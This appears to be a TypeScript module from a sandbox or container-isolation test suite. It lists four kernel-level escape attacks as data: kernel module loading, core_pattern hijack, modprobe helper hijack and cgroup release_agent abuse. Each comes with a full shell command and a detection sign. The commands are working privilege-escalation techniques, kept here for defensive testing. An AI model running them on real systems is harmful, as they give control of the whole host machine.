import { moduleLoaded, started, type Attack } from "../attack.ts";

/** What reaches the whole kernel: never on a machine that anybody else uses. $R leads to the root of the attacks from the first one. */
export const kernel: readonly Attack[] = [
  {
    name: "kernel-module",
    does: "loads code into the kernel",
    run: "busybox insmod $P/module.ko && busybox grep -q '^dummy ' /proc/modules && echo $T >&9; busybox rmmod dummy",
    needs: ["modules"],
    wholeMachine: true,
    signs: [moduleLoaded],
  },
  {
    name: "core-pattern",
    does: "has the kernel start it when a program crashes",
    run: 'echo "|$R$P/evil" > /proc/sys/kernel/core_pattern; ulimit -c unlimited; sh -c "kill -SEGV \\$\\$"; sleep 1; echo core > /proc/sys/kernel/core_pattern',
    wholeMachine: true,
    signs: [started],
  },
  {
    name: "module-helper",
    does: "has the kernel start it when it wants a module",
    run: "echo $R$P/evil > /proc/sys/kernel/modprobe; busybox mount -t nothing x /tmp; sleep 1; echo /sbin/modprobe > /proc/sys/kernel/modprobe",
    needs: ["modules"],
    wholeMachine: true,
    signs: [started],
  },
  {
    name: "release-agent",
    does: "has the kernel start it when a control group is empty",
    run: "mkdir /tmp/g && mount -t cgroup -o none,name=attack x /tmp/g && mkdir /tmp/g/a && echo 1 > /tmp/g/a/notify_on_release && echo $R$P/evil > /tmp/g/release_agent && sh -c 'echo $$ > /tmp/g/a/cgroup.procs'; sleep 1; rmdir /tmp/g/a; umount /tmp/g; rmdir /tmp/g",
    wholeMachine: true,
    signs: [started],
  },
];
